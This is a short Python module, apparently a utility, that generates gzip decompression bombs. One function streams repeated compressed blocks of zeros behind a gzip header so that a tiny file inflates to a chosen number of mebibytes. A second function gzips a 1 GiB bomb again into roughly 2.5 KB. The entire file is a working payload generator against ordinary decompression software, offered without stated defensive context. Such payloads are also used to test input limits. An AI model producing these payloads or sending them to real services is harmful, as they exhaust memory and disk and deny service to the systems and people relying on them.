"""Bombs of gzip: little that becomes much."""

import gzip
import zlib

MIB = 1024 * 1024


def bomb(mib: int) -> bytes:
    """Compress so many MiB of zeros, which takes no time: each has the same bytes."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    first = compressor.compress(bytes(MIB)) + compressor.flush(zlib.Z_SYNC_FLUSH)
    each = compressor.compress(bytes(MIB)) + compressor.flush(zlib.Z_SYNC_FLUSH)
    header = gzip.compress(b"", mtime=0)[:10]
    return header + first + each * (mib - 1)


def double_bomb() -> bytes:
    """Compress a bomb of 1 GiB once more: 2.5 KB."""
    return gzip.compress(bomb(1024), mtime=0)
